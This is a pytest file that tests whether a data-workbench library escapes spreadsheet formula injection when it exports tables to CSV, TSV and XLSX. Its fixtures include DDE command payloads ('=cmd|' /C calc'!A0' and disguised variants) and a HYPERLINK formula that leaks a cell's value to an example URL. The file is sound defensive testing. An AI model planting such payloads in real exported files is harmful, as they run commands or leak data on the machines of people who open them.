"""What a table holds does not run in the spreadsheet that it is opened with."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from workbench import Session, Workbench
from workbench.errors import InvalidParameter

RUN = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-cmd",
    "+1\n=cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
PLAIN = ["-5", "+49 30 123-456", "-12.5 %", "a=b", "'quoted", " =1", "", "x@example.com", "2-1"]


@pytest.fixture(scope="module")
def session(wb: Workbench) -> Session:
    frame = pd.DataFrame({"text": [*RUN, *PLAIN], "=name": 1, "number": -5})
    frame["kind"] = frame["text"].astype("category")
    return wb.open(frame, name="formulas")


def column(path: Path, delimiter: str) -> tuple[list[str], list[str], list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        header, *rows = csv.reader(file, delimiter=delimiter)
    return header, [row[0] for row in rows], [row[3] for row in rows]


@pytest.mark.parametrize(("ending", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_texts_that_would_run_are_marked(session: Session, tmp_path: Path, ending, delimiter) -> None:
    header, texts, kinds = column(session.export(tmp_path / f"out.{ending}"), delimiter)

    assert header == ["text", "'=name", "number", "kind"]
    assert texts == kinds == [*(f"'{text}" for text in RUN), *PLAIN]
    assert all(text[:1] not in "=@\t\r\uff1d" for text in texts if text)


@pytest.mark.parametrize(("ending", "delimiter"), [("csv", ","), ("tsv", "\t")])
def test_they_can_be_kept_as_they_are(session: Session, tmp_path: Path, ending, delimiter) -> None:
    path = session.export(tmp_path / f"out.{ending}", formulas="keep")

    assert column(path, delimiter) == (["text", "=name", "number", "kind"], [*RUN, *PLAIN], [*RUN, *PLAIN])


@pytest.mark.parametrize(("formulas", "kinds"), [("escape", {"s"}), ("keep", {"s", "f"})])
def test_in_excel_they_are_cells_of_text(session: Session, tmp_path: Path, formulas: Any, kinds) -> None:
    path = session.export(tmp_path / "out.xlsx", formulas=formulas)

    sheet = openpyxl.load_workbook(path).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2) if row[0].value is not None]
    assert {cell.data_type for cell in cells} == kinds
    assert [cell.value for cell in cells][:3] == RUN[:3]


@pytest.mark.parametrize("ending", ["parquet", "arrow", "jsonl"])
def test_other_formats_hold_what_the_table_holds(session: Session, tmp_path: Path, ending) -> None:
    path = session.export(tmp_path / f"out.{ending}")

    read = {"parquet": pd.read_parquet, "arrow": pd.read_feather}.get(
        ending, lambda path: pd.read_json(path, lines=True)
    )(path)
    assert list(read["text"]) == [*RUN, *PLAIN]


def test_another_word_for_it_is_refused(session: Session, tmp_path: Path) -> None:
    with pytest.raises(InvalidParameter, match="formulas='drop'"):
        session.export(tmp_path / "out.csv", formulas="drop")  # type: ignore[arg-type]
    assert not list(tmp_path.iterdir())
